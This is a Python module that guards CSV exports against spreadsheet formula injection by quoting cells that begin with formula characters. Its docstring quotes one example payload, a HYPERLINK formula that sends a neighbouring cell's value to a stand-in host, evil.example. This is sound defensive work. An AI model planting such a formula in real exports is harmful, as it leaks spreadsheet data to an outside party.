"""Spreadsheet formula injection (CSV injection): cells we write can never run as formulas.

A subscriber named ``=HYPERLINK("https://evil.example/?"&A2, "Klicka")`` would become a
live formula when an editor opens an export in Excel or LibreOffice. OWASP's guidance
(CSV Injection): a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return gets a single quote in front, which spreadsheets show as text and never evaluate;
the csv module quotes cells with separators or quotes. Every CSV we write goes through
``SafeCsvWriter``; our importer takes such a quote off again (``restore_cell``), so an
export imported again gives back the same values.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


class _Writable(Protocol):
    def write(self, s: str, /) -> Any: ...


def safe_cell(value: object) -> object:
    """``value`` as a spreadsheet may show it: text starting like a formula is quoted."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def restore_cell(value: str) -> str:
    """Undo ``safe_cell`` on a value read from one of our exports."""
    if value.startswith("'") and value[1:].startswith(FORMULA_START):
        return value[1:]
    return value


class SafeCsvWriter:
    """``csv.writer`` whose every text cell has gone through ``safe_cell``."""

    def __init__(self, out: _Writable, **fmt: Any) -> None:
        self._writer = csv.writer(out, **fmt)

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([safe_cell(v) for v in row])
